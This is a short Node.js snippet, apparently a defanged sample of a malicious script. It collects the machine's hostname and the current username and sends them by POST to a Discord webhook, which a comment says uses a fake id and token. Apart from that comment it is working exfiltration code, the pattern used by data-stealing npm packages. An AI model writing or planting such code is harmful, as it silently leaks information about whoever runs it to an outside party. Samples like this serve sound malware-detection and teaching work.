const os = require('os');

// Defanged: the webhook id and token are fake.
const hook = 'https://discord.com/api/webhooks/123456789012345678/FAKE_TOKEN_bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb';
fetch(hook, {
  method: 'POST',
  headers: { 'content-type': 'application/json' },
  body: JSON.stringify({ content: os.hostname() + ' ' + os.userInfo().username }),
});
